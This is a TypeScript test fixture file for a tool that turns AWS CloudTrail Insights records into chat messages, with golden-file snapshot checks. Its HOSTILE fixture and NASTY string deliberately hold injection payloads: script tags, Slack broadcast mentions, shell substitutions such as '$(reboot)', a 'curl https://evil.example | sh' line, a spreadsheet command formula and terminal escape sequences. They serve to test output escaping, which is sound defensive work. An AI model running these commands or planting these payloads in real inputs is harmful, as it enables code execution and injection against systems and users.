import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { type DescribeOptions, describeInsight, type InsightMessage } from '../../src/messages';
import { type InsightRecord, parseInsightRecord } from '../../src/records';
import { rawRecord } from '../records/make';

type Changes = Parameters<typeof rawRecord>[0];

export function record(changes: Changes = {}): InsightRecord {
  const parsed = parseInsightRecord(rawRecord(changes));
  if (!parsed) throw new Error('the fixture is no Insights record');
  return parsed;
}

export const message = (changes: Changes = {}, options: DescribeOptions = {}): InsightMessage =>
  describeInsight(record(changes), options);

export const OPTIONS = { now: new Date('2026-11-20T03:30:40Z'), accountName: 'gov-prod' } as const;

/** Twenty calls a minute that stopped: an agent that reports no more. */
const STOPPED = {
  top: { eventTime: '2026-11-20T10:13:00Z', awsRegion: 'cn-north-1' },
  details: { state: 'End', eventSource: 'ssm.amazonaws.com', eventName: 'UpdateInstanceInformation' },
  statistics: { baseline: { average: 20 }, insight: { average: 0 }, insightDuration: 13, baselineDuration: 10680 },
  attributions: [
    {
      attribute: 'userIdentityArn',
      insight: [],
      baseline: [
        { value: 'arn:aws-cn:sts::111122223333:assumed-role/Fleet/i-0aa', average: 15 },
        { value: 'arn:aws-cn:sts::111122223333:assumed-role/Fleet/i-0bb', average: 5 },
      ],
    },
  ],
} as const;

/** Errors on data events nobody had seen before, by six identities of which five are named; written by our detector. */
const ERRORS = {
  top: { eventTime: '2026-11-20T09:07:00Z', awsRegion: 'eu-central-1' },
  details: {
    state: 'End',
    eventSource: 's3.amazonaws.com',
    eventName: 'PutObject',
    insightType: 'ApiErrorRateInsight',
    errorCode: 'AccessDenied',
    sourceEventCategory: 'Data',
    insightSource: 'arn:aws:trailinsight:eu-central-1:111122223333:detector/calibrated',
  },
  statistics: { baseline: { average: 0 }, insight: { average: 100 }, insightDuration: 7, baselineDuration: 10620 },
  attributions: [
    {
      attribute: 'userIdentityArn',
      insight: [50, 20, 10, 5, 5].map((average, n) => ({ value: `arn:aws:iam::111122223333:user/u${n}`, average })),
      baseline: [],
    },
  ],
} as const;

/** Everything that somebody who makes calls might try, in every place that is theirs. */
export const NASTY =
  '</td><script>alert(1)</script><img src=//evil.example/x.png> <!channel> <@U024BE7LH> <https://evil.example|click>' +
  ' @here *bold* `code` &amp; "quoted" \'single\' $(reboot) \u001b[2J\u001b]8;;https://evil.example\u0007 \r\n=cmd|"/C calc"!A0' +
  '\u202egnp.exe\u2066\u200b\u2028 ##[error] https://evil.example/ www.evil.example \ud800';

const HOSTILE = {
  top: {
    awsRegion: 'evil.example/#',
    eventID: '"><script>1</script>',
    sharedEventID: "'; reboot; '<!here>",
    recipientAccountId: '=1+1',
  },
  details: {
    eventSource: `x";reboot;".amazonaws.com`,
    eventName: `-x'; curl https://evil.example | sh; \`reboot\` $(reboot) <!channel>\n${NASTY}`,
    insightType: 'ApiErrorRateInsight',
    errorCode: NASTY,
    sourceEventCategory: '<b>Management</b>',
    insightSource: 'arn:aws:trailinsight:x:1:detector/<b>',
  },
  attributions: [
    { attribute: 'userIdentityArn', insight: [{ value: NASTY, average: 4 }], baseline: [] },
    {
      attribute: 'userAgent',
      insight: ['=1+1', '+1', '-1', '@SUM(A1)', 'x'.repeat(10_000), NASTY.repeat(40)].map((value) => ({
        value,
        average: 0.7,
      })),
      baseline: [{ value: NASTY.repeat(40), average: 0.0001 }],
    },
    { attribute: '<i>new</i> @channel', insight: [{ value: '<i>', average: 1 }], baseline: [] },
  ],
} as const;

/** The insights that golden files tell. */
export const STORIES: Readonly<Record<string, () => InsightMessage>> = {
  'spike-open': () => message({}, OPTIONS),
  'drop-over': () => message(STOPPED),
  'errors-over': () => message(ERRORS, { accountName: 'data-lake' }),
  hostile: () => message(HOSTILE, { accountName: NASTY }),
};

const GOLDEN = join(__dirname, 'golden');

/** The file in golden/ holds exactly this text. `UPDATE_GOLDEN=1` writes it anew, to be read before it is kept. */
export function expectGolden(name: string, text: string): void {
  const path = join(GOLDEN, name);
  if (process.env.UPDATE_GOLDEN === '1') writeFileSync(path, text);
  expect(existsSync(path)).toBe(true);
  expect(text).toBe(readFileSync(path, 'utf8'));
}
